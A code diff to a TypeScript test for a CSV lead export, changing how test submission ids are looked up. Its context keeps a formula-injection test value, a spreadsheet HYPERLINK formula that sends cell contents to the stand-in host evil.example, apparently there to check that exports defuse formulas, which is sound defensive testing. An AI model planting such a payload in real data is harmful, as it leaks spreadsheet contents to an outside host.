@@ -14,7 +14,7 @@ import { solvedCaptcha } from '../test/altcha.js';
 import { buildTestApi, type TestApi } from '../test/api.js';
 import { createTestDataDir, TEST_DRIVER } from '../test/database.js';
 import { parseCsvRecords } from '../test/parse-csv.js';
-import { newsletterSubscriptionId, quoteRequest } from '../test/submissions.js';
+import { newestSubmissionId, newsletterSubscriptionId, quoteRequest } from '../test/submissions.js';
 import { writeLeadsCsv } from './csv.js';
 
 const FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';
@@ -31,11 +31,11 @@ describe('the lead export on submissions stored through the API', () => {
     newsletter: 0,
   };
 
-  async function store(url: string, body: Record<string, unknown>): Promise<number> {
+  async function store(url: Parameters<typeof newestSubmissionId>[1], body: Record<string, unknown>): Promise<number> {
     const captcha = url === '/api/store/newsletter' ? undefined : await solvedCaptcha(api.app);
     const response = await api.app.inject({ method: 'POST', url, payload: { ...body, consent: true, captcha } });
     expect(response.statusCode, response.body).toBe(201);
-    return (response.json() as { data: { id: number } }).data.id;
+    return newestSubmissionId(api.database.db, url);
   }
 
   async function exportCsv(kind: LeadKind, since?: string) {
